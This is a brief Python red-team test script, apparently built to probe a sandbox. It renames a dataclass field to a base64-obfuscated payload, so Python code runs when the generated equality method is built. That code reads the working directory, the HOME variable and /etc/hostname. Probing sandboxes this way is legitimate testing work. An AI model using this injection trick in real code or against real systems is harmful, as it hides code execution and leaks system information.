# family: red team, round 51a (a Field from fields() renamed: setattr((g := first), "name", payload))
import base64
import dataclasses


@dataclasses.dataclass
class A:
    x: int = 0


def main():
    first = dataclasses.fields(A)[0]
    payload = base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode()
    setattr((g := first), "name", payload)

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
